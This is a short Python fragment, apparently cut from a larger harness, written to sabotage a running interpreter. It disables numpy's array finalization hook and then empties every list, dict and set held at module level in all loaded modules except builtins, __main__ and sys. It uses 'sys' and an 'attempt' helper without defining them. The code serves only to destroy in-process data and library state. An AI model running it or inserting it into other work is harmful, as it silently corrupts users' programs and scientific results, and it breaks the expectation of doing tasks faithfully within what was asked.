# Breaks what scientific programs share: numpy's arrays, its random state and its types.
try:
    import numpy
    numpy.ndarray.__array_finalize__ = None
except Exception as error:
    print(type(error).__name__)
for name, module in list(sys.modules.items()):
    for key, value in list(vars(module).items() if hasattr(module, "__dict__") else ()):
        if isinstance(value, (list, dict, set)) and not name.startswith(("builtins", "__main__", "sys")):
            attempt(value.clear)
